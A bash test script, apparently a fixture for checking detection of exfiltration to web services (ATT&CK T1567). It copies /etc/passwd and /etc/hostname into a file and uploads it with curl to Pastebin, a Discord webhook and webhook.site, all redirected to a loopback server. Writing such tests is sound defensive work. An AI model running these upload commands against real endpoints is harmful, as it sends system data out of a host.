#!/bin/bash
# Send collected text to a paste site (Pastebin's API) and to chat webhooks (a Discord webhook, webhook.site) with curl; the names resolve to a loopback web server (curl --resolve), so nothing leaves the host.
# technique: T1567.003 T1567.004
# expect: upload-to-web-service
set -eu
port=$((20000 + ($$ + 17) % 20000))
mkdir -p "$TPY_WORK/www"
/usr/bin/python3 -m http.server --bind 127.0.0.1 -d "$TPY_WORK/www" "$port" > /dev/null 2>&1 &
server=$!
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.1; done
cat /etc/passwd /etc/hostname > notes.txt
curl -s -o /dev/null --resolve "pastebin.com:$port:127.0.0.1" \
    -d api_option=paste -d api_dev_key=test --data-urlencode "api_paste_code@notes.txt" \
    "http://pastebin.com:$port/api/api_post.php"
curl -s -o /dev/null --resolve "discord.com:$port:127.0.0.1" -F "file=@notes.txt" \
    "http://discord.com:$port/api/webhooks/1234/test-token"
curl -s -o /dev/null --resolve "webhook.site:$port:127.0.0.1" --data-binary "@notes.txt" \
    "http://webhook.site:$port/00000000-0000-0000-0000-000000000000"
kill "$server"
wait || true
